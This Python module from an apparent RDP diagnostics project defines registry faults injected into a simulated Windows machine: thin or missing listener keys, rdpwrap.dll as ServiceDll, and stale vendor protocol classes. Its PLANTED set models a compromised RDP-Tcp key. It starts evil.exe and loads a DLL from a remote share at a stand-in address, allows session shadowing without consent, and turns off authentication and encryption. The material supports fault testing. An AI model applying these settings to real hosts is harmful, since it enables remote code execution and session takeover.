# Copyright: (c) 2026, winops.rdp contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Faults of the listener's key and of what loads it."""

from __future__ import annotations

import typing as t
from collections.abc import Callable

from ..state.registry import dword, expand_sz, sz
from ..state.termservice import RDP_PROTOCOL, RDP_TCP

if t.TYPE_CHECKING:
    from ..machine import Machine

WRAPPER_DLL = r"C:\Program Files\RDP Wrapper\rdpwrap.dll"
# What https://github.com/stascorp/rdpwrap/issues/133 shows of a key that makes no listener: a handful of values.
THIN_VALUES = {
    "fEnableWinStation": dword(1),
    "LoadableProtocol_Object": sz(RDP_PROTOCOL),
    "MaxInstanceCount": dword(0xFFFFFFFF),
    "PortNumber": dword(3389),
    "UserAuthentication": dword(1),
}
KEPT = {*THIN_VALUES, "SSLCertificateSHA1Hash"}


def _service_dll_foreign(machine: Machine) -> None:
    folder = WRAPPER_DLL.rpartition("\\")[0]
    machine.files.ensure(folder)
    machine.files.write(WRAPPER_DLL, b"MZ")
    name_service_dll(machine, r"%ProgramFiles%\RDP Wrapper\rdpwrap.dll")


def name_service_dll(machine: Machine, path: str) -> None:
    """Let TermService load another DLL, unless another fault has hidden which one it loads."""
    key = r"HKLM\SYSTEM\CurrentControlSet\Services\TermService\Parameters"
    if machine.registry.text(key, "ServiceDll") is not None:
        machine.registry.set(key, "ServiceDll", expand_sz(path))


def _listener_thin(machine: Machine) -> None:
    """Only a few values are left, with their data; no change when the key is gone."""
    key = machine.registry.get(RDP_TCP)
    if key is None:
        return
    for name in [spelled for spelled, _ in key.items() if spelled not in KEPT]:
        machine.registry.delete_value(RDP_TCP, name)
    for sub in key.subkeys():
        machine.registry.delete_key(rf"{RDP_TCP}\{sub.name}")


def _in_full_key(machine: Machine, values: dict[str, object]) -> None:
    """Set only values that exist, so that this combines with a thin or missing key in either order."""
    key = machine.registry.get(RDP_TCP)
    for name, value in values.items():
        if key is not None and key.get(name) is not None:
            machine.registry.set(RDP_TCP, name, value)  # type: ignore[arg-type]


OLD_NAMES: dict[str, object] = {
    "PdDLL": sz("tdpipe"), "PdName": sz("pipe"), "PdClass": dword(7), "WdPrefix": sz("ICA"),
}  # fmt: skip
NOTHING = "{00000000-0000-0000-0000-000000000000}"
# A product's class in RDP-Tcp itself: Citrix' agents replace Windows' own.
VENDOR_PROTOCOL = "{A1F6D3B8-2C95-47E0-8B14-60D9E7C2F5A3}"
VENDOR_KEY = rf"HKLM\SOFTWARE\Classes\CLSID\{VENDOR_PROTOCOL}\InprocServer32"
# What an owned host would like to see on others: a program in every session, libraries, and no security.
PLANTED: dict[str, object] = {
    "InitialProgram": sz(r"\\203.0.113.7\share\evil.exe"),
    "WorkDirectory": sz(r"\\203.0.113.7\share"),
    "NWLogonServer": sz("203.0.113.7"),
    "fInheritInitialProgram": dword(0),
    "Shadow": dword(4),
    "fInheritShadow": dword(0),
    "CfgDll": sz(r"\\203.0.113.7\share\x.dll"),
    "WsxDLL": sz("evilwsx"),
    "WdDLL": sz("evilwd"),
    "SecurityLayer": dword(0),
    "UserAuthentication": dword(0),
    "MinEncryptionLevel": dword(1),
    "fAllowSecProtocolNegotiation": dword(0),
    "fDisableEncryption": dword(0),
    "MaxIdleTime": dword(1),
    "Kitten": sz("evil.exe"),
}


def _listener_wrong_values(machine: Machine) -> None:
    _in_full_key(machine, {**OLD_NAMES, "LoadableProtocol_Object": sz(NOTHING)})


def _old_names(machine: Machine) -> None:
    _in_full_key(machine, OLD_NAMES)


def _vendor_class(machine: Machine) -> None:
    machine.registry.set(VENDOR_KEY, "", sz(r"C:\Program Files\Contoso\Agent\protocol.dll"))
    _vendor_class_left(machine)


def _vendor_class_silent(machine: Machine) -> None:
    """Its class is registered, and nothing listens."""
    _vendor_class(machine)
    machine.termservice.broken_classes.add(VENDOR_PROTOCOL.lower())


def _vendor_class_left(machine: Machine) -> None:
    """The product was removed, and its class stayed in the key. Where a class is damaged, it stays so."""
    if machine.registry.text(RDP_TCP, "LoadableProtocol_Object") not in (None, NOTHING):
        machine.registry.set(RDP_TCP, "LoadableProtocol_Object", sz(VENDOR_PROTOCOL))


def _planted(machine: Machine) -> None:
    """Change only values that exist, so that this combines with a thin key in either order."""
    is_whole = machine.registry.value(RDP_TCP, "PdFlag") is not None
    for name, value in PLANTED.items():
        if is_whole or machine.registry.value(RDP_TCP, name) is not None:
            machine.registry.set(RDP_TCP, name, value)  # type: ignore[arg-type]


def _demanding(machine: Machine) -> None:
    """The key is gone, and Windows' own values don't bring the listener back here, for an unknown reason."""
    machine.registry.delete_key(RDP_TCP)
    machine.termservice.demands["OutBufCount"] = 12


def _one_adapter(machine: Machine) -> None:
    _in_full_key(machine, {"LanAdapter": dword(7)})


def _dll_denied(machine: Machine) -> None:
    """TermService's parameters have no readable ServiceDll."""
    key = r"HKLM\SYSTEM\CurrentControlSet\Services\TermService\Parameters"
    machine.registry.delete_value(key, "ServiceDll")


def _logon_disabled(machine: Machine) -> None:
    _in_full_key(machine, {"fLogonDisabled": dword(1)})


LISTENER_FAULTS: tuple[tuple[str, str, Callable[[Machine], None]], ...] = (
    ("service-dll-foreign", "TermService loads rdpwrap.dll, and still works", _service_dll_foreign),
    ("listener-thin", "the RDP-Tcp key has only a few values", _listener_thin),
    ("listener-wrong-values", "the class, PdDLL, PdName, PdClass and WdPrefix are others'", _listener_wrong_values),
    ("listener-old-names", "PdDLL, PdName, PdClass and WdPrefix are another protocol's; it listens", _old_names),
    ("listener-vendor-class", "another product's protocol is in RDP-Tcp, and listens", _vendor_class),
    ("listener-vendor-silent", "another product's protocol is in RDP-Tcp, and nothing listens", _vendor_class_silent),
    ("listener-vendor-left", "a product was removed, and left its protocol's class in RDP-Tcp", _vendor_class_left),
    ("listener-planted", "the key starts programs, shadows people and has no security; it listens", _planted),
    ("listener-demanding", "the key is gone, and Windows' own values don't bring it back", _demanding),
    ("listener-one-adapter", "LanAdapter names a network adapter that isn't there", _one_adapter),
    ("service-dll-unreadable", "TermService has no ServiceDll that could be read, and works", _dll_denied),
    ("logon-disabled", "fLogonDisabled=1", _logon_disabled),
)
